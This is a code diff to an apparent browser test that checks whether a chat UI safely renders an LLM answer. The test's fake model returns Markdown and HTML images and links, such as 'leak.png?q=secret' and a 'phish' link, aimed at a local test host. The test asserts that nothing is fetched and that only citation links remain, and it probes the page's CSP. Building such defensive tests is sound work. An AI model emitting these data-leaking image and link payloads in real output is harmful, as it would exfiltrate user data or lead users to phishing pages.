@@ -13,7 +13,7 @@ import pytest
 from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
 from langchain_core.messages import AIMessage
 
-from test_ui_browser import CHROMIUM, CHROMIUM_FLAGS, free_port
+from test_ui_browser import CHROMIUM, CHROMIUM_FLAGS, SHOTS, free_port
 
 pytestmark = [pytest.mark.slow, pytest.mark.browser]
 
@@ -44,12 +44,13 @@ def counter():
 
 
 def hostile_reply(base: str) -> str:
-    """Three true sentences (so the answer is kept) and every way Markdown and HTML can fetch or link."""
+    """True sentences (so the LLM's answer is kept) and every way Markdown and HTML can fetch or link,
+    in heading lines (not claims, so they survive verification) and a link definition."""
     return (
+        f"### 概况 ![t]({base}/leak.png?q=secret) ![]({base}/leak2.png)\n"
         "全市地区生产总值达到5128.4亿元[1]。同比增长3%[1]。高于全省1.7个百分点[1]。\n"
-        f"![t]({base}/leak.png?q=secret) ![]({base}/leak2.png) [![i]({base}/nested.png)]({base}/nested)"
-        f" 详见[官网]({base}/phish)、<{base}/auto>、{base}/bare 和 <img src=\"{base}/html.png\">"
-        f" [ref][1]\n\n[1]: {base}/definition.png\n"
+        f"### 详见[官网]({base}/phish)、<{base}/auto>、{base}/bare、[![i]({base}/nested.png)]({base}/nested)"
+        f" 和 <img src=\"{base}/html.png\"> [ref][1]\n\n[1]: {base}/definition.png\n"
     )
 
 
@@ -95,6 +96,8 @@ def test_a_hostile_answer_fetches_nothing_and_links_only_to_its_sources(site, br
     hrefs = reply.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
     assert hrefs and all(href.startswith("#cite-") for href in hrefs), hrefs
     assert reply.locator("img").count() == 0
+    SHOTS.mkdir(parents=True, exist_ok=True)
+    page.screenshot(path=str(SHOTS / "ui_hostile_answer.png"), full_page=True)
     # Whatever still slipped into the page would be stopped by the CSP: try it.
     page.evaluate(f"() => {{ const i = new Image(); i.src = '{counter}/injected.png'; document.body.append(i); }}")
     time.sleep(1.0)
